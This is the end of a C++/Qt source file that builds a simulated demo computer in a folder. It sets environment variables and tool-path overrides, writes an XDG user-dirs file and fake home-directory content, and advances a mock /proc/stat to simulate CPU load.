    environment.variables = {{QStringLiteral("XDG_CURRENT_DESKTOP"), QStringLiteral("GNOME")},
                             {QStringLiteral("PATH"), QStringLiteral("/usr/local/bin:/usr/bin:/bin")}};
    environment.userId = kUser;
    const QString tools = folder + QStringLiteral("/tools");
    environment.toolPaths = {{QStringLiteral("/usr/bin/ps"), tools + QStringLiteral("/ps")},
                             {QStringLiteral("/usr/bin/flatpak"), tools + QStringLiteral("/flatpak")}};

    const QString& home = environment.homeDirectory;
    Writer w(folder);
    if (!QDir().mkpath(environment.tempDirectory) || !QDir().mkpath(environment.applicationSupport)) {
        if (error) *error = QStringLiteral("cannot make the folders of ") + folder;
        return std::nullopt;
    }
    w.text(home + QStringLiteral("/.config/user-dirs.dirs"),
           "XDG_DESKTOP_DIR=\"$HOME/Desktop\"\nXDG_DOWNLOAD_DIR=\"$HOME/Downloads\"\n"
           "XDG_TEMPLATES_DIR=\"$HOME/Templates\"\nXDG_PUBLICSHARE_DIR=\"$HOME/Public\"\n"
           "XDG_DOCUMENTS_DIR=\"$HOME/Documents\"\nXDG_MUSIC_DIR=\"$HOME/Music\"\n"
           "XDG_PICTURES_DIR=\"$HOME/Pictures\"\nXDG_VIDEOS_DIR=\"$HOME/Videos\"\n",
           400 * kDay);
    writeApps(w, home);
    writeJunk(w, home);
    writeClutter(w, home);
    writeBrowsers(w, home);
    writeLaunchItems(w, home, environment.rootPrefix);
    writeMachine(w, environment.rootPrefix, tools);
    w.finish();
    if (!w.ok()) {
        if (error) *error = w.failure();
        return std::nullopt;
    }
    return environment;
}

bool advanceProcessor(const Environment& environment) {
    const QString path = environment.rootPrefix + QStringLiteral("/proc/stat");
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly)) return false;
    const QList<QByteArray> fields = file.readLine().simplified().split(' ');
    file.close();
    if (fields.size() < 5 || fields[0] != "cpu") return false;
    const quint64 busy = fields[1].toULongLong();
    const quint64 idle = fields[4].toULongLong();
    QFile out(path);
    const QByteArray next = procStat(busy + 184, idle + 616);
    return out.open(QIODevice::WriteOnly | QIODevice::Truncate) && out.write(next) == next.size();
}

}  // namespace tarnwick::DemoComputer
